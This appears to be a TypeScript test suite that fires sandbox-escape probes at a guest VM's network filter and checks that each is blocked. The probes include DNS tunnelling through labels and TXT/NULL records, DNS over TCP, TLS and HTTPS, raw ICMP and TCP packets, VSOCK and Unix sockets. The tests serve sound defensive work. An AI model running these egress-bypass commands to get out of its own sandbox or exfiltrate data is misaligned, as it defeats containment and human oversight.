import { type Attack, BROKEN, refused } from './attack.ts';
import { plain } from './guest-lines.ts';

/** Runs Python of ours; what it prints or how it failed. */
export function python(code: string): string {
  return `python3 - <<'END'\n${code.trim()}\nEND`;
}

/** Sends one DNS question over UDP and prints the answer's code and addresses. */
function ask(server: string, name: string, type = 1): string {
  return python(`
import socket, struct
family = socket.AF_INET6 if ':' in '${server}' else socket.AF_INET
s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(4)
labels = b''.join(bytes([len(part)]) + part.encode() for part in '${name}'.split('.') if part)
s.sendto(struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>2H', ${type}, 1), ('${server}', 53))
answer = s.recv(4096)
print('code', answer[3] & 15, 'answers', struct.unpack('>H', answer[6:8])[0], answer[-4:].hex())`);
}

const SENT = `
try:
    s.connect(to); s.send(b'GET / HTTP/1.0\\r\\n\\r\\n')
    print(s.recv(4096))
except OSError as error:
    print(type(error).__name__, error.errno)`;

function datagram(address: string, port: number): string {
  return python(`
import socket
to = ('${address}', ${port})
s = socket.socket(socket.AF_INET6 if ':' in to[0] else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
${SENT}`);
}

/** A socket that makes its own packets: header and protocol by the guest. */
function rawSocket(kind: string, to: string, packet: string): string {
  return python(`
import socket, struct
try:
    s = socket.socket(${kind}); s.settimeout(1)
    s.sendto(${packet}, ${to})
    print('answer', s.recv(2048)[:12].hex())
except OSError as error:
    print(type(error).__name__, error.errno)`);
}

const ICMP = "b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00'";
/** Failed at once, timed out, or was heard by the guest's own kernel only. */
const UNHEARD = /Error|timed out|TimeoutError|answer/;

export const DATAGRAM_ATTACKS: readonly Attack[] = [
  {
    name: 'DNS: a denied name is answered by the host and asked of nobody',
    line: () => ask('10.0.2.3', 'secret-data.denied.test'),
    sees: /^code 0 answers 1 c61[23]/,
  },
  {
    name: 'DNS: data in labels of an allowed wildcard',
    line: () => ask('10.0.2.3', `${'x'.repeat(60)}.${'y'.repeat(60)}.tunnel.test`),
    sees: /^code 0/,
  },
  {
    name: 'DNS: TXT of an allowed wildcard',
    line: () => ask('10.0.2.3', 'data.tunnel.test', 16),
    sees: /^code 0 answers 0/,
  },
  {
    name: 'DNS: ANY of an allowed name',
    line: () => ask('10.0.2.3', 'api.test', 255),
    sees: /^code [04] answers [012]/,
  },
  {
    name: 'DNS: NULL records',
    line: () => ask('10.0.2.3', 'data.tunnel.test', 10),
    sees: /^code 0 answers 0/,
  },
  { name: 'DNS: a zone transfer', line: () => ask('10.0.2.3', 'api.test', 252), sees: /^code 5/ },
  {
    name: 'DNS: a public resolver',
    line: () => ask('8.8.8.8', 'one.denied.test'),
    sees: /^code 0 answers 1 c61[23]/,
  },
  {
    name: 'DNS: a resolver over IPv6',
    line: () => ask('2001:4860:4860::8888', 'two.denied.test'),
    sees: /^code 0 answers 1 c61[23]/,
  },
  {
    name: 'DNS: this host as resolver',
    line: ({ hostAddress }) => ask(hostAddress, 'three.denied.test'),
    sees: /^code 0 answers 1 c61[23]/,
  },
  {
    name: 'DNS over TCP to another resolver',
    line: () =>
      `{ printf '\\0\\042\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4four\\6denied\\4test\\0\\0\\1\\0\\1'; sleep 0.3; } | nc -N -w 3 1.1.1.1 53 | od -An -tx1 | tr -d ' \\n'; echo`,
    sees: /c61[23]....$/m,
  },
  {
    name: 'DNS: a name that loops',
    line: () =>
      python(`
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
for bytes in (b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\xc0\\x0c\\0\\1\\0\\1', b'\\0\\7\\1\\0' + b'\\xff' * 400, b'\\0' * 5):
    s.sendto(bytes, ('10.0.2.3', 53))
    try: print('code', s.recv(512)[3] & 15)
    except OSError as error: print(type(error).__name__)`),
    sees: /^(?:code 1|TimeoutError|timeout)\n/,
  },
  {
    name: 'DNS over TLS',
    line: () =>
      'timeout 6 openssl s_client -quiet -connect 1.1.1.1:853 -servername one.one.one.one < /dev/null; true',
    sees: BROKEN,
  },
  {
    name: 'DNS over HTTPS by address',
    line: () =>
      "curl -sS -k -m 6 'https://1.1.1.1/dns-query?dns=AAABAAABAAAAAAAABGRhdGEGZGVuaWVkBHRlc3QAAAEAAQ'; true",
    sees: refused('not_allowed'),
  },
  {
    name: 'DNS over HTTPS by name',
    line: () => "curl -sS -m 6 'https://dns.denied.test/dns-query?name=data.denied.test'; true",
    sees: refused('not_allowed'),
  },
  {
    name: 'UDP to this host',
    line: ({ hostAddress, canaries }) => datagram(hostAddress, canaries.port),
    sees: /^ConnectionRefusedError|^timeout|^TimeoutError/,
  },
  {
    name: 'UDP to this host over IPv6',
    line: ({ canaries }) =>
      datagram(
        canaries.addresses.find((address) => address.includes(':')) ?? 'fd00::2',
        canaries.port,
      ),
    sees: /^ConnectionRefusedError|^timeout|^TimeoutError/,
  },
  {
    name: 'QUIC to an allowed host',
    line: () => datagram('api.test', 443),
    sees: /^ConnectionRefusedError|^timeout|^TimeoutError/,
  },
  {
    name: 'UDP broadcast and multicast',
    line: ({ canaries }) =>
      python(`
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); s.settimeout(1)
for to in (('255.255.255.255', ${canaries.port}), ('224.0.0.1', ${canaries.port})):
    try:
        s.sendto(b'x', to); print(s.recv(9))
    except OSError as error: print(type(error).__name__, error.errno)`),
    sees: /Error|timeout/,
  },
  {
    name: 'ICMP echo to this host',
    line: ({ hostAddress }) =>
      rawSocket(
        'socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP',
        `('${hostAddress}', 0)`,
        ICMP,
      ),
    sees: UNHEARD,
  },
  {
    name: 'ICMP redirects to itself',
    line: ({ hostAddress }) =>
      rawSocket(
        'socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP',
        "('10.0.2.15', 0)",
        `b'\\x05\\x01' + struct.pack('!H', 0) + socket.inet_aton('${hostAddress}') + bytes(28)`,
      ),
    sees: UNHEARD,
  },
  {
    name: 'a TCP SYN of its own making',
    line: ({ hostAddress, canaries }) =>
      rawSocket(
        'socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW',
        `('${hostAddress}', 0)`,
        `bytes.fromhex('4500002800010000400600000a00020f') + socket.inet_aton('${hostAddress}') + struct.pack('>HHIIHHHH', 4321, ${canaries.port}, 1, 0, 0x5002, 8192, 0, 0)`,
      ),
    sees: UNHEARD,
  },
  {
    name: 'a frame on the link',
    line: () =>
      rawSocket('socket.AF_PACKET, socket.SOCK_RAW', "('lo', 0x0800)", 'bytes(14) + bytes(40)'),
    sees: UNHEARD,
  },
  {
    name: 'SCTP',
    line: ({ hostAddress, canaries }) =>
      rawSocket(
        'socket.AF_INET, socket.SOCK_STREAM, 132',
        `('${hostAddress}', ${canaries.port})`,
        "b'x'",
      ),
    sees: UNHEARD,
  },
  {
    name: 'VSOCK to the host',
    line: ({ canaries }) =>
      python(`
import socket
for cid in (2, 0, 1, 0xffffffff):
    try:
        s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(2)
        s.connect((cid, ${canaries.port})); print('connected', cid)
    except OSError as error: print(type(error).__name__, error.errno)`),
    sees: /Error/,
    seesNot: /connected/,
  },
  {
    name: "the Unix socket of a host's server in the shared directory",
    line: () =>
      python(`
import socket
s = socket.socket(socket.AF_UNIX)
try: s.connect('/workspace/host.sock'); print('connected')
except OSError as error: print(type(error).__name__, error.errno)`),
    sees: /Error/,
    seesNot: /connected/,
  },
  {
    name: 'raw TCP to a host that is allowed for HTTP',
    line: ({ ports }) => plain('api.test', ports['api.test'], 'raw bytes\r\n'),
    sees: /^$/,
  },
];
